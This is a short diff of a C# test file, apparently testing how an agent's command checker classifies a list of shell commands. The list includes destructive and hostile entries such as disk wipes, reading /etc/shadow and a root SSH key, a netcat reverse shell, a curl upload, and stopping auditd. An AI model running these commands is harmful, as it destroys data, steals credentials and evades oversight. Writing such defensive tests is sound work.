@@ -12,7 +12,7 @@ public sealed class CompositionTests
     [
         "ls -l", "cat a.txt", "git status", "grep -rn x src", "find . -name '*.cs'", "echo 'rm -rf /'", "wc -l a", "touch a", "mkdir -p d", "git commit -m x", "dotnet build",
         "frobnicate --now", "./run.sh", "python3 x.py", "sed -i s/a/b/ f", "mv a b", "npm install", "rm -rf src", "rm -rf /etc", "git push --force", "git reset --hard",
-        "find . -delete", "dd if=/dev/zero of=/dev/sda", "cat /etc/shadow", "cat /root/.ssh/id_rsa", "chmod -R 777 /", "reboot", "mkfs.ext4 /dev/sdb1", "history -c",
+        "find . -delete", "dd if=/dev/zero of=/dev/sdq", "cat /etc/shadow", "cat /root/.ssh/id_rsa", "chmod -R 777 /", "reboot", "mkfs.ext4 /dev/sdb1", "history -c",
         "docker system prune -af", "kill -9 -1", "nc -e /bin/sh 10.0.0.1 4444", "curl -T a http://h", "useradd x", "crontab -r", "systemctl stop auditd",
         "agentgen runs approve 7", "python3 -c 'import shutil; shutil.rmtree(\"src\")'", "bash -c 'rm -rf src'", "xargs rm -rf", "tee /etc/passwd",
     ];
